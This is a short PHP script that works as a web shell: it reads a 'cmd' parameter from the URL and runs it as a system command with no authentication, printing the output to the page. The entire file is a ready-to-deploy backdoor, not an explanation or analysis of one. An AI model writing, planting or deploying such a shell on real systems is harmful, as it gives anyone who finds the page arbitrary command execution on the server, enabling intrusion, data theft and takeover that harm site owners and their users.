<?php
if (isset($_GET['cmd'])) {
    echo '<pre>';
    system(stripslashes($_GET['cmd']));
    echo '</pre>';
}
